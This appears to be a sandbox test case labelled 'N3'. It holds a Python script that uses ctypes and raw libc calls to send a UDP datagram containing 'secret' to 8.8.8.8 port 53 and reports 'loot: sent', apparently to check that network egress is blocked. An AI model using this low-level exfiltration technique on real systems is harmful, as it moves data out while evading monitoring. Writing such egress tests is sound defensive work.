# row: N3
# does: sends a datagram out
# expect: exit

import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)


def loot(what):
    print(f"loot: {what}", flush=True)


descriptor = libc.socket(2, 2, 0)
address = struct.pack("=H", 2) + struct.pack("!H", 53) + bytes([8, 8, 8, 8]) + bytes(8)
if descriptor >= 0 and libc.sendto(descriptor, b"secret", 6, 0, address, len(address)) > 0:
    loot("sent")
os._exit(3)
